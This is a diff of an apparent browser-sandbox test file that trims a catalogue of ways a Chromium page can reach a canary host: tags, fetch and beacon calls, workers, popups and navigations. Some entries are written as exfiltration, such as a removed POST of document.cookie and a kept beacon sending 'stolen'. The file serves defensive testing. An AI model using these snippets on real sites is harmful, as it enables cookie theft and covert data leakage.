@@ -51,52 +51,19 @@ const SERVICE_WORKER_PATH = '/maps/attack-worker.js';
 const tag = (hit: string, html: (aim: Aim) => string): Attack => ({ hit, html });
 const run = (hit: string, script: (aim: Aim) => string): Attack => ({ hit, script });
 
-/** What a page loads with itself. */
+/** What a page loads with itself: one of each way through Chromium, and each spelling of this machine. */
 export const SUB_RESOURCES: readonly Attack[] = [
   tag('GET /img', ({ http }) => `<img src="${http}/img">`),
-  tag('GET /srcset', ({ http }) => `<img srcset="${http}/srcset 1x">`),
-  tag('GET /input', ({ http }) => `<input type="image" src="${http}/input">`),
-  tag('GET /svg', ({ http }) => `<svg><image href="${http}/svg"/></svg>`),
   tag('GET /js-script', ({ http }) => `<script async src="${http}/js-script"></script>`),
-  tag('GET /js-module', ({ http }) => `<script type="module" src="${http}/js-module"></script>`),
   tag('GET /css-link', ({ http }) => `<link rel="stylesheet" href="${http}/css-link">`),
-  tag('GET /css-import', ({ http }) => `<style>@import "${http}/css-import";</style>`),
-  tag(
-    'GET /background',
-    ({ http }) => `<p style="background: url(${http}/background); width: 9px; height: 9px">`,
-  ),
-  tag(
-    'GET /font',
-    ({ http }) =>
-      `<style>@font-face { font-family: spy; src: url(${http}/font) }</style><p style="font-family: spy">a`,
-  ),
   tag('GET /iframe', ({ http }) => `<iframe src="${http}/iframe"></iframe>`),
-  tag('GET /srcdoc', ({ http }) => `<iframe srcdoc='<script src="${http}/srcdoc"></script>'></iframe>`),
-  tag('GET /object', ({ http }) => `<object data="${http}/object" width="9" height="9"></object>`),
-  tag('GET /embed', ({ http }) => `<embed src="${http}/embed" type="text/html" width="9" height="9">`),
-  tag('GET /video', ({ http }) => `<video src="${http}/video" preload="auto"></video>`),
-  tag('GET /audio', ({ http }) => `<audio src="${http}/audio" preload="auto"></audio>`),
-  tag(
-    'GET /track',
-    ({ http }) =>
-      `<video crossorigin src="${http}/video"><track default kind="subtitles" src="${http}/track"></video>`,
-  ),
-  tag('GET /preload', ({ http }) => `<link rel="preload" as="fetch" crossorigin href="${http}/preload">`),
-  tag('GET /js-modulepreload', ({ http }) => `<link rel="modulepreload" href="${http}/js-modulepreload">`),
   tag('GET /prefetch', ({ http }) => `<link rel="prefetch" href="${http}/prefetch">`),
-  tag(
-    'GET /rules-prefetch',
-    ({ http }) =>
-      `<script type="speculationrules">{"prefetch":[{"urls":["${http}/rules-prefetch"],"eagerness":"immediate"}]}</script>`,
-  ),
   tag(
     'GET /rules-prerender',
     ({ http }) =>
       `<script type="speculationrules">{"prerender":[{"urls":["${http}/rules-prerender"],"eagerness":"immediate"}]}</script>`,
   ),
   tag('GET /redirected-script', () => `<script async src="${REDIRECT_PATH}/redirected-script"></script>`),
-  tag('GET /redirected-iframe', () => `<iframe src="${REDIRECT_PATH}/redirected-iframe"></iframe>`),
-  tag('GET /redirected-img', () => `<img src="${REDIRECT_PATH}/redirected-img">`),
   tag('GET /named', ({ named }) => `<script async src="${named}/named"></script>`),
   tag('GET /tls', ({ https }) => `<script async src="${https}/tls"></script>`),
   tag(
@@ -118,22 +85,7 @@ export const SUB_RESOURCES: readonly Attack[] = [
 /** What a script sends. */
 export const REQUESTS: readonly Attack[] = [
   run('GET /fetch', ({ http }) => `await fetch('${http}/fetch').then((r) => r.text())`),
-  run(
-    'POST /fetch-post',
-    ({ http }) =>
-      `await fetch('${http}/fetch-post', {method: 'POST', mode: 'no-cors', keepalive: true, body: document.cookie})`,
-  ),
-  run(
-    'GET /xhr',
-    ({ http }) =>
-      `await new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', '${http}/xhr'); x.onload = done; x.onerror = () => fail(new Error('xhr')); x.send() })`,
-  ),
   run('GET /redirected-fetch', () => `await fetch('${REDIRECT_PATH}/redirected-fetch', {mode: 'no-cors'})`),
-  run('GET /named-fetch', ({ named }) => `await fetch('${named}/named-fetch', {mode: 'no-cors'})`),
-  run(
-    'GET /xhr-sync',
-    ({ http }) => `const x = new XMLHttpRequest(); x.open('GET', '${http}/xhr-sync', false); x.send()`,
-  ),
   run(
     'POST /beacon',
     ({ http }) => `if (!navigator.sendBeacon('${http}/beacon', 'stolen')) throw new Error('beacon')`,
@@ -143,7 +95,6 @@ export const REQUESTS: readonly Attack[] = [
     ({ http }) =>
       `await new Promise((done, fail) => { const e = new EventSource('${http}/events-source'); e.onopen = () => { e.close(); done() }; e.onerror = () => { e.close(); fail(new Error('events')) } })`,
   ),
-  run('GET /js-import', ({ http }) => `await import('${http}/js-import')`),
   run(
     'GET /ws-page',
     ({ ws }) => `await new Promise((done) => { new WebSocket('${ws}/ws-page').onclose = done })`,
@@ -153,12 +104,6 @@ export const REQUESTS: readonly Attack[] = [
     ({ http }) =>
       `document.body.insertAdjacentHTML('beforeend', '<iframe name="sink"></iframe><form method="post" target="sink" action="${http}/form"><input name="a" value="b"></form>'); document.forms[0].submit()`,
   ),
-  run(
-    'POST /ping',
-    ({ http }) =>
-      `const a = document.createElement('a'); a.href = '#'; a.ping = '${http}/ping'; document.body.append(a); a.click()`,
-  ),
-  run('GET /later', ({ http }) => `fetchLater('${http}/later', {activateAfter: 0})`),
 ];
 
 const inWorker = (body: string) =>
@@ -176,28 +121,13 @@ export const WORKERS: readonly Attack[] = [
       `new Worker(${inWorker(`try { importScripts('${http}/js-worker-import') } finally { postMessage(1) }`)})`,
     ),
   ),
-  run('GET /js-worker-module', ({ http }) =>
-    ask(
-      `new Worker(${inWorker(`import('${http}/js-worker-module').finally(() => postMessage(1))`)}, {type: 'module'})`,
-    ),
-  ),
   run('GET /ws-worker', ({ ws }) =>
     ask(`new Worker(${inWorker(`new WebSocket('${ws}/ws-worker').onclose = () => postMessage(1)`)})`),
-  ),
-  run('GET /events-worker', ({ http }) =>
-    ask(
-      `new Worker(${inWorker(`const e = new EventSource('${http}/events-worker'); e.onopen = e.onerror = () => { e.close(); postMessage(1) }`)})`,
-    ),
   ),
   run(
     'GET /shared',
     ({ http }) =>
       `await new Promise((done, fail) => { const w = new SharedWorker(${inWorker(`onconnect = ({ports}) => fetch('${http}/shared').finally(() => ports[0].postMessage(1))`)}); w.port.onmessage = done; w.onerror = fail })`,
-  ),
-  run(
-    'GET /ws-shared',
-    ({ ws }) =>
-      `await new Promise((done, fail) => { const w = new SharedWorker(${inWorker(`onconnect = ({ports}) => { new WebSocket('${ws}/ws-shared').onclose = () => ports[0].postMessage(1) }`)}); w.port.onmessage = done; w.onerror = fail })`,
   ),
   run(
     'GET /service-worker',
@@ -227,53 +157,31 @@ const click = (attributes: string) =>
 /** Ways to open another window elsewhere. */
 export const WINDOWS: readonly Attack[] = [
   run('GET /anchor-blank', ({ http }) => click(`target="_blank" rel="noopener" href="${http}/anchor-blank"`)),
-  run(
-    'GET /form-blank',
-    ({ http }) =>
-      `document.body.insertAdjacentHTML('beforeend', '<form target="_blank" action="${http}/form-blank"></form>'); document.forms[0].submit()`,
-  ),
   run('GET /popup', ({ http }) => `open('${http}/popup')`),
   run('GET /popup-redirected', () => `open('${REDIRECT_PATH}/popup-redirected')`),
-  run('GET /popup-blank', ({ http }) => `open('about:blank').location = '${http}/popup-blank'`),
-  run(
-    'GET /popup-writes',
-    ({ http }) => `open('about:blank').document.write('<script src="${http}/popup-writes"></' + 'script>')`,
-  ),
 ];
 
 /** Ways to take the page itself elsewhere: each needs a page of its own. */
 export const NAVIGATIONS: readonly Attack[] = [
   tag('GET /meta-refresh', ({ http }) => `<meta http-equiv="refresh" content="0;url=${http}/meta-refresh">`),
   run('GET /assign', ({ http }) => `location.assign('${http}/assign')`),
-  run('GET /timed', ({ http }) => `setTimeout(() => { location.href = '${http}/timed' }, 50)`),
   run('GET /to-name', ({ named }) => `location.href = '${named}/to-name'`),
   run('GET /to-tls', ({ https }) => `location.href = '${https}/to-tls'`),
   run('GET /redirected', () => `location.href = '${REDIRECT_PATH}/redirected'`),
-  run('GET /anchor', ({ http }) => click(`href="${http}/anchor"`)),
   run(
     'POST /form-top',
     ({ http }) =>
       `document.body.insertAdjacentHTML('beforeend', '<form method="post" action="${http}/form-top"><input name="a" value="b"></form>'); document.forms[0].submit()`,
   ),
-  tag(
-    'GET /from-frame',
-    ({ http }) => `<iframe srcdoc="<script>top.location.href = '${http}/from-frame'</script>"></iframe>`,
-  ),
   run(
     'GET /popup-opener',
     ({ http }) => `open('about:blank').eval("opener.location.href = '${http}/popup-opener'")`,
   ),
-  run('GET /popups', ({ http }) => `for (let i = 0; i < 20; i += 1) open('${http}/popups')`),
   { hit: 'GET /refresh-header', headers: ({ http }) => ({ refresh: `0;url=${http}/refresh-header` }) },
   {
     hit: 'GET /link-header',
     headers: ({ http }) => ({ link: `<${http}/link-header>; rel=preload; as=script` }),
   },
-  run(
-    'GET /from-blob',
-    ({ http }) =>
-      `location.href = URL.createObjectURL(new Blob(['<script>fetch("${http}/from-blob")</' + 'script>'], {type: 'text/html'}))`,
-  ),
 ];
 
 /** Asks the canary once, and would answer the host's next visitor in its stead. */
